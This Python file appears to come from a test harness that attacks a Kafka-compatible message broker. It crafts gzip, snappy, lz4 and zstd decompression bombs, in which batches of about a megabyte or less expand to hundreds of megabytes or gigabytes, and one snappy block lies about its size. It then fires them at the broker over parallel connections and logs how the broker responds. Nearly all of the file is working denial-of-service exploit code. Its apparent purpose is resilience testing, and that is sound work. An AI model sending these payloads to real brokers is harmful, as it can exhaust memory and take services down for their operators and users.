"""Small batches that unpack to much more, for topics whose batches the broker checks (compression.type=producer) or repacks (uncompressed)."""

import functools
import struct
import threading
import zlib
from collections import Counter

from harness.ask import data, text
from peer import Attack, batch, connect, exchange, frame, shown, unsigned

# Below message.max.bytes.
BATCH_BYTES = 1_000_000


def varint(value):
    """As a signed varint of the record format."""
    return unsigned(value << 1 ^ value >> 63)


def opening(size):
    """(the first bytes of one record of `size` bytes at most, how many zeros come behind them: its value and its count of headers)"""
    value = size - 30
    head = b"\0\0\0\x01" + varint(value)
    return varint(len(head) + value + 1) + head, value + 1


def gzip_bomb():
    head, zeros = opening(950_000_000)
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    out, piece = [packer.compress(head)], b"\0" * (1 << 20)
    for _ in range(zeros >> 20):
        out.append(packer.compress(piece))
    out += [packer.compress(piece[:zeros & (1 << 20) - 1]), packer.flush()]
    return len(head) + zeros, b"".join(out)


def snappy_bomb():
    """The framing of xerial's library; a copy of 64 bytes takes three."""
    block = 1 << 20
    count = BATCH_BYTES // (block // 64 * 3 + 20)
    head, zeros = opening(count * block)
    left, out = len(head) + zeros, [b"\x82SNAPPY\0" + struct.pack(">ii", 1, 1)]
    total = left
    while left:
        size, start = min(block, left), head if not out[1:] else b"\0"
        # A literal, then copies from one byte back.
        size_left = size - len(start)
        body = unsigned(size) + bytes([len(start) - 1 << 2]) + start + b"\xfe\x01\0" * (size_left // 64)
        if size_left % 64:
            body += bytes([size_left % 64 - 1 << 2 | 2]) + b"\x01\0"
        out.append(data(body))
        left -= size
    return total, b"".join(out)


def snappy_claim():
    """One block that says that it unpacks to 4 GiB - 1, and holds twenty bytes."""
    return 2**32 - 1, b"\x82SNAPPY\0" + struct.pack(">ii", 1, 1) + data(unsigned(2**32 - 1) + b"\x10\0\0\0\0\0" + b"\xfe\x01\0" * 4)


def lz4_bomb():
    """Independent blocks of 4 MiB. A byte of a match's length stands for 255 bytes."""
    block = 4 << 20
    count = BATCH_BYTES // (block // 255 + 40)
    head, zeros = opening(count * block)
    left, out = len(head) + zeros, [bytes.fromhex("04224d18607073")]
    total = left
    while left:
        size, start = min(block, left), head if not out[1:] else b"\0"
        # Literals, one match from one byte back, and the five literals that must end a block.
        match = size - len(start) - 5
        body = bytes([min(15, len(start)) << 4 | 15]) + (bytes([len(start) - 15]) if len(start) >= 15 else b"") + start + b"\x01\0"
        body += b"\xff" * ((match - 19) // 255) + bytes([(match - 19) % 255]) + b"\x50" + b"\0" * 5
        out.append(struct.pack("<I", len(body)) + body)
        left -= size
    return total, b"".join(out) + b"\0" * 4


def zstd_bomb():
    """A raw block and blocks of one byte, each repeated 128 KiB."""
    block = 128 << 10
    head, zeros = opening(2**31 - 100)
    out = [bytes.fromhex("28b52ffd") + b"\0" + bytes([7 << 3]), (len(head) << 3).to_bytes(3, "little") + head]
    for start in range(0, zeros, block):
        size = min(block, zeros - start)
        out.append((size << 3 | 1 << 1 | (size == zeros - start)).to_bytes(3, "little") + b"\0")
    return len(head) + zeros, b"".join(out)


class Bomb(Attack):
    codec, bombs, seconds = 0, (), 12
    topics = {"bomb-kept": "producer", "bomb-repacked": "uncompressed"}

    @classmethod
    @functools.cache
    def made(cls):
        """[(bytes unpacked, the batch)], made once."""
        return [(size, batch(packed, codec=cls.codec)) for size, packed in (make() for make in cls.bombs)]

    def stage(self):
        entries = b"".join(text(name) + struct.pack(">ihii", 1, 1, 0, 1) + text("compression.type") + text(value) for name, value in self.topics.items())
        exchange(connect(self.server.port, 60), frame(19, 2, struct.pack(">i", len(self.topics)) + entries + struct.pack(">i?", 30_000, False)))
        self.made()

    def run(self):
        outcomes, lock, open_ones = Counter(), threading.Lock(), []
        bombs = self.made()

        def work(number):
            name = list(self.topics)[number % 2]
            _, octets = bombs[number // 2 % len(bombs)]
            body = struct.pack(">hhi", -1, -1, 30_000) + struct.pack(">i", 1) + text(name) + struct.pack(">ii", 1, 0) + data(octets)
            while not self.over.is_set():
                try:
                    with connect(self.server.port, 60) as connection:
                        open_ones.append(connection)
                        answer = exchange(connection, frame(0, 7, body))
                except OSError:
                    answer = None
                # Correlation id, one topic, its name, one partition.
                code = "closed" if answer is None else f"× error {struct.unpack_from('>h', answer, 4 + 4 + 2 + len(name) + 4 + 4)[0]}"
                if not self.over.is_set():
                    with lock:
                        outcomes[f"{name} {code}"] += 1

        def end():
            self.over.wait()
            for connection in open_ones:
                connection.close()
        threading.Thread(target=end, daemon=True).start()
        self.in_threads(4, work)
        sizes = ", ".join(f"{len(octets) / 1000:,.0f} kB to {size / 1e6:,.0f} MB" for size, octets in bombs)
        self.note += f"{sizes}; {shown(outcomes)}"


class GzipBomb(Bomb):
    name, what, codec, bombs = "bomb gzip", "Produce of gzip batches over 4 connections, 950 MB in 0.9 MB", 1, (gzip_bomb,)


class SnappyBomb(Bomb):
    name, what, codec, bombs = "bomb snappy", "Produce of snappy batches over 4 connections: 20 MB in 1 MB, the most that snappy packs; and a block that claims 4 GiB", 2, (snappy_bomb, snappy_claim)


class Lz4Bomb(Bomb):
    name, what, codec, bombs = "bomb lz4", "Produce of lz4 batches over 4 connections, 250 MB in 1 MB, the most that lz4 packs", 3, (lz4_bomb,)


class ZstdBomb(Bomb):
    name, what, codec, bombs = "bomb zstd", "Produce of zstd batches over 4 connections, 2.1 GB in 70 kB", 4, (zstd_bomb,)


BOMBS = [GzipBomb, SnappyBomb, Lz4Bomb, ZstdBomb]
